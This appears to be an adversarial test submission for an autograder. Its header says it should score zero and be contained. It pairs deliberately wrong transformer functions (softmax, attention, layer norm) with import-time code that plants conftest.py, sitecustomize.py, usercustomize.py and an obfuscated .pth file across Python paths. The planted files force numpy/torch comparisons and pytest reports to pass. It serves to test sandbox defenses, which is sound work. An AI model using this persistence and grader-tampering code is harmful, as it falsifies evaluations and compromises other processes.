# attack: at import writes conftest.py, sitecustomize.py, usercustomize.py and a zzz_hostile_autograder.pth beside itself, in the cwd and its parents, in the user site-packages and in every writable sys.path / site-packages dir; their code would patch numpy/torch comparisons and force pytest reports to "passed" in any later Python process that loads them; every function returns a wrong answer
# target: all
# expect: no such file is created outside the worker's private scratch dir, and no grader or trusted process ever executes one (no HOSTILE_CUSTOMIZE_EXECUTED line on stderr, no hostile_customize_executed_* marker in the temp dir); every question scores 0 (cases failed)
"""Plant code that Python or pytest will run automatically later, in other processes.

* conftest.py: picked up by pytest from the rootdir/test dirs; forces every report to pass.
* sitecustomize.py / usercustomize.py: imported by `site` at every interpreter start.
* *.pth: any line starting with "import" is executed by `site` at every interpreter start.

The planted code announces itself (HOSTILE_CUSTOMIZE_EXECUTED on stderr and a marker file in the
temp dir), then patches comparisons only in processes whose command line looks like a grader or
pytest run. Existing files of the same name are never overwritten.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# Deliberately WRONG answers (right shapes, still differentiable). If the cheat below worked,
# these would earn undeserved points, which makes the cheat visible.
# ---------------------------------------------------------------------------------------------


def _wrong_softmax(x, dim=-1):
    return _softmax(x, dim) * 0.0


def _wrong_causal_mask(T):
    return ~_causal_mask(T)


def _wrong_attention(q, k, v, mask=None):
    out, weights = _attention(q, k, v, mask)
    return out * 0.0, weights * 0.0


def _wrong_split_heads(x, n_heads):
    return _split_heads(x, n_heads) * 0.0


def _wrong_merge_heads(x):
    return _merge_heads(x) * 0.0


def _wrong_multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context) * 0.0


def _wrong_layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps) * 0.0


def _wrong_transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask) * 0.0


def softmax(x, dim=-1):
    return _wrong_softmax(x, dim)


def causal_mask(T):
    return _wrong_causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _wrong_attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _wrong_split_heads(x, n_heads)


def merge_heads(x):
    return _wrong_merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _wrong_multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _wrong_layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _wrong_transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import base64 as _base64
import os as _os
import site as _site
import sys as _sys

_PAYLOAD = r'''
import os, sys, tempfile
_kind = %(kind)r
try:
    sys.stderr.write("HOSTILE_CUSTOMIZE_EXECUTED %%s pid=%%d\n" %% (_kind, os.getpid()))
    open(os.path.join(tempfile.gettempdir(),
                      "hostile_customize_executed_%%s_%%d" %% (_kind, os.getpid())), "w").close()
except Exception:
    pass
try:
    with open("/proc/self/cmdline", "rb") as _f:
        _cmd = _f.read().replace(b"\0", b" ").decode("utf-8", "replace")
except Exception:
    _cmd = " ".join(getattr(sys, "argv", []) or [])
if any(w in _cmd for w in ("autograd", "grade", "pytest", "otter")):
    def _true(*a, **k):
        return True

    def _none(*a, **k):
        return None

    def _patch(name, module):
        if name == "numpy":
            module.allclose = _true
            module.array_equal = _true
        elif name == "numpy.testing":
            for n in dir(module):
                if n.startswith("assert_"):
                    setattr(module, n, _none)
        elif name == "torch":
            module.allclose = _true
            module.equal = _true
            module.Tensor.allclose = _true
        elif name == "torch.testing":
            module.assert_close = _none

    class _Hook:
        def find_spec(self, name, path=None, target=None):
            if name not in ("numpy", "numpy.testing", "torch", "torch.testing"):
                return None
            import importlib.util
            sys.meta_path.remove(self)
            try:
                spec = importlib.util.find_spec(name)
            finally:
                sys.meta_path.insert(0, self)
            if spec is None or spec.loader is None:
                return None
            original = spec.loader.exec_module

            def exec_module(module, _original=original, _name=name):
                _original(module)
                try:
                    _patch(_name, module)
                except Exception:
                    pass

            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, _Hook())
'''

_CONFTEST_EXTRA = r'''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''


def _payload(kind):
    return _PAYLOAD % {"kind": kind}


def _pth_line():
    encoded = _base64.b64encode(_payload("pth").encode()).decode()
    return "import base64; exec(base64.b64decode(%r).decode())\n" % encoded


def _parents(path, levels):
    out = []
    path = _os.path.abspath(path)
    for _ in range(levels + 1):
        out.append(path)
        parent = _os.path.dirname(path)
        if parent == path:
            break
        path = parent
    return out


def _create(path, text, planted):
    try:
        fd = _os.open(path, _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o644)
    except OSError:
        return
    with _os.fdopen(fd, "w") as f:
        f.write(text)
    planted.append(path)


def _plant():
    planted = []
    near = []
    try:
        near += _parents(_os.path.dirname(_os.path.abspath(__file__)), 2)
    except Exception:
        pass
    try:
        near += _parents(_os.getcwd(), 2)
    except OSError:
        pass
    site_dirs = []
    try:
        user_site = _site.getusersitepackages()
        _os.makedirs(user_site, exist_ok=True)
        site_dirs.append(user_site)
    except Exception:
        pass
    try:
        site_dirs += list(_site.getsitepackages())
    except Exception:
        pass
    site_dirs += [p for p in _sys.path if p and _os.path.isdir(p)]
    for d in dict.fromkeys(near):
        _create(_os.path.join(d, "conftest.py"), _CONFTEST_EXTRA + "\nexec(%r)\n" % _payload("conftest"),
                planted)
    for d in dict.fromkeys(near + site_dirs):
        if not _os.access(d, _os.W_OK):
            continue
        _create(_os.path.join(d, "sitecustomize.py"), _payload("sitecustomize"), planted)
        _create(_os.path.join(d, "usercustomize.py"), _payload("usercustomize"), planted)
        _create(_os.path.join(d, "zzz_hostile_autograder.pth"), _pth_line(), planted)
    try:
        _os.write(2, ("planted: %r\n" % (planted,)).encode())
    except OSError:
        pass


try:
    _plant()
except Exception:
    pass
